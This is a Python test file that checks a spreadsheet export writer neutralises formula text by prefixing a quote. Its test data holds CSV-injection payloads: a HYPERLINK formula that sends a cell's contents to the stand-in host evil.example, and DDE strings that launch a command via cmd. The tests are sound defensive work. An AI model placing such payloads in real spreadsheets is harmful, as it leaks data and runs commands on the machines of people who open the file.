"""The one export writer: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from fahuo.kit.exports import CsvWriter, append_row, safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"],
)  # fmt: skip
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-12.5, -3, 0, "-30.00", "+12.30 (+4.1%)", "-20.0%", "张三", "6930000000001", None]
)
def test_numbers_and_plain_text_are_untouched(value: object) -> None:
    assert safe_cell(value) == value


def test_an_xlsx_row_keeps_negative_numbers_as_numbers_and_no_formula() -> None:
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["=1+1", -5, "-5"])
    out = io.BytesIO()
    book.save(out)
    cells = load_workbook(io.BytesIO(out.getvalue())).active[1]
    assert [c.value for c in cells] == ["'=1+1", -5, "-5"]
    assert [c.data_type for c in cells] == ["s", "n", "s"]


def test_the_csv_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    CsvWriter(out, lineterminator="\n").writerows([["order", "carrier"], ["=cmd|' /C calc'!A0", "ZTO"]])
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'=cmd|' /C calc'!A0", "ZTO"]
